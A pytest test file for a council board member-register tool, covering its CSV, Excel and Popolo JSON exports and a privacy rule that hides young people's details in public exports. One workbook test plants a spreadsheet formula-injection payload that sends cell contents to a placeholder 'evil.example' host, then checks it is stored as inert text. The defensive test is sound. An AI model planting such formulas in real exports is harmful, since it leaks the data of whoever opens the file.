"""Exports parsed back: CSV with a BOM for Excel, the Excel workbook (openpyxl), Popolo JSON, and the
privacy rule for --public."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from conftest import DEMO_PEOPLE, run_cli
from sqlmodel import select
from workbooks import formulas_in, sheet

from cpo_desktop.errors import UserError
from cpo_desktop.model.tables import Person
from cpo_desktop.services import member_export


def test_csv_round_trips_accents_and_opens_in_excel(demo_store):
    with demo_store.session() as session:
        session.exec(select(Person).where(Person.surname == "Nowak")).one().surname = "Nowak-Żuławski"
    data = member_export.to_csv(demo_store)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert any(r["Surname"] == "Nowak-Żuławski" for r in rows)
    assert {r["Seat"] for r in rows} >= {"Elected Member (1)", "Care Experienced Young Person (1)"}


def test_public_csv_hides_young_peoples_surnames_and_contacts(demo_store):
    rows = list(csv.DictReader(io.StringIO(member_export.to_csv(demo_store, public=True).decode("utf-8-sig"))))
    kayden = [r for r in rows if r["First name"] == "Kayden"]
    assert kayden and all(r["Surname"] == "" and r["Email"] == "" and r["Phone"] == "" for r in kayden)
    jade = [r for r in rows if r["First name"] == "Jade"]  # consented to her full name
    assert jade[0]["Surname"] == "Armitage" and jade[0]["Email"] == ""
    private = member_export.to_csv(demo_store).decode("utf-8-sig")
    assert "Lowe" in private and "Lowe" not in member_export.to_csv(demo_store, public=True).decode("utf-8-sig")


def test_popolo_structure_and_references(demo_store):
    doc = member_export.to_popolo(demo_store, public=True)
    assert set(doc) == {"persons", "organizations", "posts", "memberships", "areas"}
    ids = {p["id"] for p in doc["persons"]}
    posts = {p["id"] for p in doc["posts"]}
    orgs = {o["id"] for o in doc["organizations"]}
    areas = {a["id"] for a in doc["areas"]}
    [council] = [o for o in doc["organizations"] if o["classification"] == "council"]
    assert council["name"] == "Sefton Council"
    for m in doc["memberships"]:
        assert m["person_id"] in ids and m["organization_id"] in orgs
        if m["organization_id"] == "board":
            assert m["post_id"] in posts and m["start_date"][:2] == "20"
        else:  # a councillor: of the council (the register's Sefton Council), on behalf of a party, for a ward
            assert m["organization_id"] == council["id"] and m["role"] == "councillor"
            assert m.get("on_behalf_of_id", "party-1") in orgs and m.get("area_id", "ward-1") in areas
    kayden = next(p for p in doc["persons"] if p["given_name"] == "Kayden")
    assert kayden["name"] == "Kayden" and "family_name" not in kayden and "email" not in kayden
    assert "Lowe" not in json.dumps(doc)


def test_a_former_seat_with_history_keeps_its_post(demo_store):
    from cpo_desktop.model.tables import Membership, Seat

    with demo_store.session() as session:
        seat_id = session.exec(select(Membership.seat_id)).first()
        session.get(Seat, seat_id).former = True
    doc = member_export.to_popolo(demo_store)
    assert f"seat-{seat_id}" in {p["id"] for p in doc["posts"]}


def test_cli_export_writes_whole_files(tmp_path, demo_paths):  # the demo board, loaded for today
    data = str(demo_paths.root)
    out = tmp_path / "out" / "register.json"
    result = run_cli("--data-dir", data, "members", "export", "--format", "popolo", "--public", "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert len(json.loads(out.read_text(encoding="utf-8"))["persons"]) == DEMO_PEOPLE
    assert not list(out.parent.glob(".*.part"))


# --- the register as an Excel workbook ------------------------------------------------------------

def _as_csv_cells(ws) -> list[list[str]]:
    """A sheet's cells as the CSV export writes them: dates as 31/01/2025, text neutralised."""
    from cpo_desktop.csv_out import neutralise

    return [[f"{c.value:%d/%m/%Y}" if isinstance(c.value, dt.datetime) else neutralise(c.value) for c in row]
            for row in ws.iter_rows()]


def test_the_register_as_a_workbook_has_typed_cells_and_no_formula(demo_store, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?q="&A2,"Click here")'
    with demo_store.session() as session:
        nowak = session.exec(select(Person).where(Person.surname == "Nowak")).one()
        nowak.phone, nowak.job_title, nowak.title = "01514960000", hostile, "@Mr"
    data = member_export.export(demo_store, "xlsx", tmp_path / "members.xlsx").read_bytes()
    ws = sheet(data)
    assert ws.title == "Members" and ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:O{ws.max_row}"
    assert [c.value for c in ws[1]] == member_export.CSV_COLUMNS and all(c.font.bold for c in ws[1])
    assert all(3 <= ws.column_dimensions[c].width <= 62 for c in "ABCDEFGHIJKLMNO")
    col = {h: i for i, h in enumerate(member_export.CSV_COLUMNS)}
    rows = list(ws.iter_rows(min_row=2))
    [row] = [r for r in rows if r[col["Surname"]].value == "Nowak"]
    assert (row[col["Phone"]].value, row[col["Phone"]].data_type) == ("01514960000", "s")  # the 0 kept
    assert (row[col["Job title"]].value, row[col["Job title"]].data_type) == (hostile, "s")  # text, not a formula
    assert (row[col["Title"]].value, row[col["Title"]].data_type) == ("@Mr", "s")
    assert formulas_in(data) == []
    starts = [r[col["Start date"]] for r in rows if r[col["Start date"]].value is not None]
    ends = [r[col["End date"]] for r in rows if r[col["End date"]].value is not None]
    assert starts and ends
    assert all(isinstance(c.value, dt.datetime) and c.number_format == "dd/mm/yyyy" for c in starts + ends)
    # The same rows as the CSV export, cell for cell.
    assert _as_csv_cells(ws) == list(csv.reader(io.StringIO(member_export.to_csv(demo_store).decode("utf-8-sig"))))


def test_the_public_workbook_follows_the_same_rule_as_the_public_csv(demo_store, tmp_path):
    data = member_export.export(demo_store, "xlsx", tmp_path / "public.xlsx", public=True).read_bytes()
    ws = sheet(data)
    assert ws.title == "Public list"
    public_csv = member_export.to_csv(demo_store, public=True).decode("utf-8-sig")
    assert _as_csv_cells(ws) == list(csv.reader(io.StringIO(public_csv)))
    kayden = [r for r in ws.iter_rows(values_only=True) if r[1] == "Kayden"]
    assert kayden and all(r[2] is None and r[3] is None and r[4] is None for r in kayden)
    assert "Lowe" not in " ".join(str(v) for r in ws.iter_rows(values_only=True) for v in r)


def test_a_public_workbook_that_would_name_a_young_person_is_not_written(demo_store, tmp_path):
    """The file as written is read back by the privacy rule, as the CSV is."""
    with demo_store.session() as session:
        session.exec(select(Person).where(Person.surname == "Nowak")).one().job_title = "Mentor to Kayden Lowe"
    out = tmp_path / "out"
    out.mkdir()
    for name in ("public.csv", "public.xlsx"):
        with pytest.raises(UserError, match="young person"):
            member_export.export(demo_store, name.rsplit(".")[-1], out / name, public=True)
    assert list(out.iterdir()) == []


def test_cli_exports_and_imports_the_register_as_a_workbook(tmp_path, demo_paths):  # the demo board, loaded for today
    data = str(demo_paths.root)
    out = tmp_path / "register.xlsx"
    result = run_cli("--data-dir", data, "members", "export", "--format", "xlsx", "--public", "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"Exported the register to {out} (public version)"
    assert sheet(out.read_bytes()).title == "Public list"
    full = tmp_path / "full.xlsx"
    assert run_cli("--data-dir", data, "members", "export", "--format", "xlsx", "-o", str(full)).returncode == 0
    # Read back by the import, every row is someone already registered, with no problem.
    result = run_cli("--data-dir", data, "members", "import", str(full), "--dry-run")
    assert result.returncode == 0, result.stderr
    assert f"Dry run: {DEMO_PEOPLE} rows are valid ({DEMO_PEOPLE} already in the register" in result.stdout


# --- councillors: the flag, party and ward (issue 21) --------------------------------------------------

def _holden_and_a_young_person_with_a_party(store) -> tuple[int, int]:
    """Cllr Mark Holden as the demo has him, and Kayden (a young person) given a party and a ward by mistake."""
    with store.session() as session:
        holden = session.exec(select(Person).where(Person.surname == "Holden")).one()
        kayden = session.exec(select(Person).where(Person.first_name == "Kayden")).one()
        kayden.party, kayden.ward = "Green", "Linacre"
        return holden.id, kayden.id


@pytest.mark.parametrize("public", [False, True])
def test_councillor_party_and_ward_columns_in_the_csv_and_the_workbook(demo_store, public):
    _holden_and_a_young_person_with_a_party(demo_store)
    rows = list(csv.DictReader(io.StringIO(member_export.to_csv(demo_store, public=public).decode("utf-8-sig"))))
    holden = next(r for r in rows if r["Surname"] == "Holden")
    assert (holden["Councillor"], holden["Party"], holden["Ward"]) == ("Yes", "Labour", "Litherland")
    sowerby = next(r for r in rows if r["Surname"] == "Sowerby")  # a councillor who is not on the board
    assert (sowerby["Councillor"], sowerby["Party"], sowerby["Seat"]) == ("Yes", "Independent", "")
    donnelly = next(r for r in rows if r["Surname"] == "Donnelly")
    assert (donnelly["Councillor"], donnelly["Party"], donnelly["Ward"]) == ("", "", "")
    kayden = [r for r in rows if r["First name"] == "Kayden"]
    # A young person's party and ward are never published; the full register keeps what was typed.
    assert {(r["Councillor"], r["Party"], r["Ward"]) for r in kayden} == {("", "", "") if public else ("", "Green", "Linacre")}
    ws = sheet(member_export.to_xlsx(demo_store, public=public))
    assert [c.value for c in ws[1]][7:10] == ["Councillor", "Party", "Ward"]
    assert ("Cllr", "Mark", "Holden", "Yes", "Labour", "Litherland") in {
        (r[0], r[1], r[2], r[7], r[8], r[9]) for r in ws.iter_rows(min_row=2, values_only=True)}


@pytest.mark.parametrize("public", [False, True])
def test_popolo_councillors_are_members_of_the_council_for_their_party_and_ward(demo_store, tmp_path, public):
    holden_id, kayden_id = _holden_and_a_young_person_with_a_party(demo_store)
    target = member_export.export(demo_store, "popolo", tmp_path / "register.json", public=public)  # schema-checked
    doc = json.loads(target.read_text(encoding="utf-8"))
    orgs = {o["id"]: o for o in doc["organizations"]}
    areas = {a["id"]: a for a in doc["areas"]}
    [holden] = [m for m in doc["memberships"] if m["person_id"] == f"person-{holden_id}" and m["role"] == "councillor"]
    assert orgs[holden["organization_id"]]["classification"] == "council"
    assert (orgs[holden["on_behalf_of_id"]]["name"], orgs[holden["on_behalf_of_id"]]["classification"]) == (
        "Labour", "party")
    assert (areas[holden["area_id"]]["name"], areas[holden["area_id"]]["classification"]) == ("Litherland", "ward")
    assert not [m for m in doc["memberships"] if m["person_id"] == f"person-{kayden_id}" and m["role"] == "councillor"]
    assert "Green" not in {o["name"] for o in orgs.values()}  # Kayden is no councillor: no party of hers
    parties = [o["name"] for o in orgs.values() if o["classification"] == "party"]
    assert parties == sorted(set(parties)) and "Independent" in parties  # each party once


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_read_back_by_the_import_changes_nothing(demo_store, tmp_path, fmt):
    """The import reads the export's Councillor, Party and Ward columns: the full register exported and
    imported again (updating everyone it names) leaves every person as they were: flag, party, ward and all."""
    from cpo_desktop.services import member_import as mi

    def people():
        with demo_store.session() as session:
            return {p.id: p.model_dump() for p in session.exec(select(Person))}

    before = people()
    assert sum(1 for p in before.values() if p["is_councillor"] and p["party"] and p["ward"]) >= 10
    target = member_export.export(demo_store, fmt, tmp_path / f"register.{fmt}")
    preview = mi.read_preview(demo_store, target)
    assert preview.problems == [] and set(preview.unknown_columns) == {"Former"}
    assert {"councillor", "party", "ward"} <= set(preview.columns.values())
    holden = next(r for r in preview.rows if r.values.get("surname") == "Holden")
    assert (holden.values["councillor"], holden.values["party"], holden.values["ward"]) == ("1", "Labour", "Litherland")
    assert all(r.duplicate_of for r in preview.rows)  # everyone is already in the register
    mi.apply(demo_store, preview, "update")
    assert people() == before
